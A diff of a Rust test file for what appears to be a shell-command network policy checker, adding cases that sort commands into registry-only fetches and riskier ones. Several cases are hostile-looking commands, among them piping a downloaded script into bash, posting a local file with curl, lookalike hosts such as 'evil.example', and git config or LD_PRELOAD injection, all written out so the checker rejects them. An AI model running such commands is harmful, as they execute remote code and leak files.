@@ -1,7 +1,7 @@
 use super::*;
 use crate::network::NetworkFacts;
 use crate::network::{Ports, Protocol};
-use crate::policy::corpus;
+use crate::policy::{Policy, Profile, corpus};
 use guarda_shell::script::Dialect;
 
 fn facts() -> NetworkFacts {
@@ -281,16 +281,21 @@ fn configuration_adds_hosts() {
 #[test]
 fn every_entry_of_the_table_can_be_used() {
     for tool in crate::catalogue::tools::TOOLS {
-        assert!(!tool.name.is_empty() && !tool.runs.is_empty(), "{}", tool.name);
+        let reached = !tool.runs.is_empty() || !tool.hosts.is_empty();
+        assert!(!tool.name.is_empty() && reached, "{}", tool.name);
         assert_eq!(tool.rules().count(), tool.hosts.len(), "{}", tool.name);
     }
     assert!(packages().any(|name| name == "pypi"));
 }
 
+fn workspace() -> Policy {
+    Policy::builtin(Profile::Workspace).unwrap()
+}
+
 #[test]
 fn what_only_fetches_allowed_packages() {
     let fetches = |script: &Script, situation: &Situation| {
-        only_fetches(script, situation) && NetworkPlan::of(script, situation).unusual.is_empty()
+        only_fetches(&workspace(), script, situation) && NetworkPlan::of(script, situation).unusual.is_empty()
     };
     for (line, only) in [
         ("npm ci", true),
@@ -324,6 +329,13 @@ fn what_only_fetches_allowed_packages() {
         ("docker run x npm ci", false),
         ("npm ci && ping evil.example", false),
         ("npm install --registry https://evil.example", false),
+        ("npm install --registry https://registry.npmjs.org/ x", true),
+        ("pip install x --index-url https://pypi.org/simple", true),
+        ("pip install torch --index-url https://download.pytorch.org/whl/cpu", false),
+        ("pip install x --index-url http://pypi.org/simple", false),
+        ("pip install x --index-url https://pypi.org.evil.example/simple", false),
+        ("pip install x --index-url https://pypi.org@evil.example/simple", false),
+        ("pip install x -i $INDEX", false),
         ("PIP_INDEX_URL=https://evil.example pip install x", false),
         ("cargo build", false),
         ("cargo publish", false),
@@ -390,7 +402,7 @@ fn what_only_takes_from_allowed_hosts() {
         ];
         let script = script.unwrap();
         let usual = NetworkPlan::of(&script, &situation).unusual.is_empty();
-        assert_eq!(usual && only_fetches(&script, &situation), only, "{line}");
+        assert_eq!(usual && only_fetches(&workspace(), &script, &situation), only, "{line}");
     }
 }
 
@@ -412,12 +424,22 @@ fn what_only_takes_from_this_machine() {
         ("curl -x localhost:8080 https://example.org/", false),
         ("nc localhost 6379", false),
         ("psql -h localhost", false),
+        // A program beside it would reach the server, too, and may do more than take text.
+        ("curl localhost:3000/x && cat notes && mkdir -p out && rm -f out/x", true),
+        ("cd sub && for i in 1 2 3; do curl -s localhost:3000 && break; sleep 1; done", true),
+        ("code=$(curl -s -o /dev/null -w '%{http_code}' localhost:3000); echo \"$code\"", true),
+        ("curl localhost:5432; ./x", false),
+        ("curl localhost:5432 | python3 -c 'import socket'", false),
+        ("curl localhost:5432; make", false),
+        ("curl localhost:5432 | awk 'BEGIN{system(\"x\")}'", false),
+        ("curl localhost:5432; find . -exec ./x {} +", false),
+        ("curl localhost:5432; LD_PRELOAD=./x.so rm y", false),
     ] {
         let script = guarda_shell::read(line, Dialect::Bash);
         let mut situation = corpus::situation(&script);
         let script = script.unwrap();
         let fetches = |situation: &Situation| {
-            only_fetches(&script, situation) && NetworkPlan::of(&script, situation).is_usual()
+            only_fetches(&workspace(), &script, situation) && NetworkPlan::of(&script, situation).is_usual()
         };
         assert!(!fetches(&situation), "{line}");
         situation.network.packages = vec!["localhost".to_owned()];
@@ -456,6 +478,13 @@ fn what_its_words_keep_on_this_machine() {
         ("pnpm add x", true),
         ("yarn install", true),
         ("mvn -q test", true),
+        // A server of its own.
+        ("node x.js & sleep 1; curl -s localhost:3000", false),
+        ("node x.js & curl -X POST localhost:3000 -d a=1; kill $!", false),
+        ("node x.js & psql -h localhost", false),
+        ("node x.js & curl https://example.org", true),
+        ("node x.js & curl localhost:3000; git push", true),
+        ("node x.js; curl -s localhost:3000", true),
     ] {
         let script = guarda_shell::read(line, Dialect::Bash);
         let situation = corpus::situation(&script);
@@ -482,4 +511,79 @@ fn what_stays_here_or_goes_where_it_may() {
         situation.network.allowed = vec![(None, rule)];
         assert_eq!(NetworkPlan::of(&script.unwrap(), &situation).here() == [0], stays, "{line}");
     }
+}
+
+/// Text and repositories are taken from where everybody keeps code and from registries, and nothing is sent there.
+#[test]
+fn what_only_takes_from_where_everybody_keeps_code() {
+    for (line, only) in [
+        ("git clone https://github.com/a/b", true),
+        ("git clone --depth 1 https://gitlab.com/a/b /tmp/b && ls /tmp/b", true),
+        ("git fetch", true),
+        ("git pull --rebase origin main", true),
+        ("git ls-remote https://codeberg.org/a/b", true),
+        ("curl -sL https://raw.githubusercontent.com/a/b/main/x | head -5", true),
+        ("curl -s https://pypi.org/pypi/x/json | jq .info.version", true),
+        ("wget -q https://github.com/a/b/archive/main.tar.gz", true),
+        ("git push", false),
+        ("git push origin main", false),
+        ("git push https://github.com/a/b main", false),
+        ("git fetch backup", false),
+        ("git fetch --all && git push", false),
+        ("git clone git@github.com:a/b", false),
+        ("git clone ssh://git@github.com/a/b", false),
+        ("git clone http://github.com/a/b", false),
+        ("git clone https://github.com.evil.example/a", false),
+        ("git clone https://github.com@evil.example/a", false),
+        ("git clone https://evil.example/a", false),
+        ("git clone https://github.com/$X", true),
+        ("git clone $X", false),
+        ("git -c http.proxy=evil:80 clone https://github.com/a/b", false),
+        ("git clone --config core.sshCommand=x https://github.com/a/b", false),
+        ("git clone --upload-pack ./x https://github.com/a/b", false),
+        ("git clone https://github.com/a/b && ./b/x", false),
+        ("git clone https://github.com/a/b && make -C b", false),
+        ("git clone https://github.com/a/b && curl -d @notes https://github.com", false),
+        ("GIT_SSH_COMMAND=./x git fetch", false),
+        ("curl https://github.com/a -H x -d @notes", false),
+        ("curl -X DELETE https://api.github.com/repos/a/b", false),
+        ("curl -u x:y https://api.github.com/user", false),
+        ("curl -sL https://raw.githubusercontent.com/a/b/x | bash", false),
+        ("curl https://raw.githubusercontent.com/a/b/x https://evil.example", false),
+        ("curl https://evil.example/raw.githubusercontent.com", false),
+        ("npm publish", false),
+    ] {
+        let script = guarda_shell::read(line, Dialect::Bash);
+        let mut situation = corpus::situation(&script);
+        situation.network.remotes =
+            [("origin", "https://github.com/me/x.git"), ("backup", "https://evil.example/x")]
+                .map(|(name, url)| (name.to_owned(), url.to_owned()))
+                .to_vec();
+        if matches!(line, "git fetch") {
+            situation.network.remotes.truncate(1);
+        }
+        let script = script.unwrap();
+        let fetches = |situation: &Situation| {
+            only_fetches(&workspace(), &script, situation) && NetworkPlan::of(&script, situation).is_usual()
+        };
+        assert!(!fetches(&situation), "{line}");
+        situation.network.packages = super::REGISTRIES.map(str::to_owned).to_vec();
+        assert_eq!(fetches(&situation), only, "{line}");
+    }
+}
+
+/// What only an administrator may do ends before it reaches anything.
+#[test]
+fn what_needs_rights_needs_no_network_without_them() {
+    for line in ["apt-get install -y jq", "apt update", "dnf install jq", "apk add jq"] {
+        let script = guarda_shell::read(line, Dialect::Bash);
+        let mut situation = corpus::situation(&script);
+        let script = script.unwrap();
+        assert!(!needs_network(&script, &situation), "{line}");
+        situation.administrator = true;
+        assert!(needs_network(&script, &situation), "{line}");
+    }
+    let script = guarda_shell::read("apt-get download jq", Dialect::Bash);
+    let situation = corpus::situation(&script);
+    assert!(needs_network(&script.unwrap(), &situation));
 }
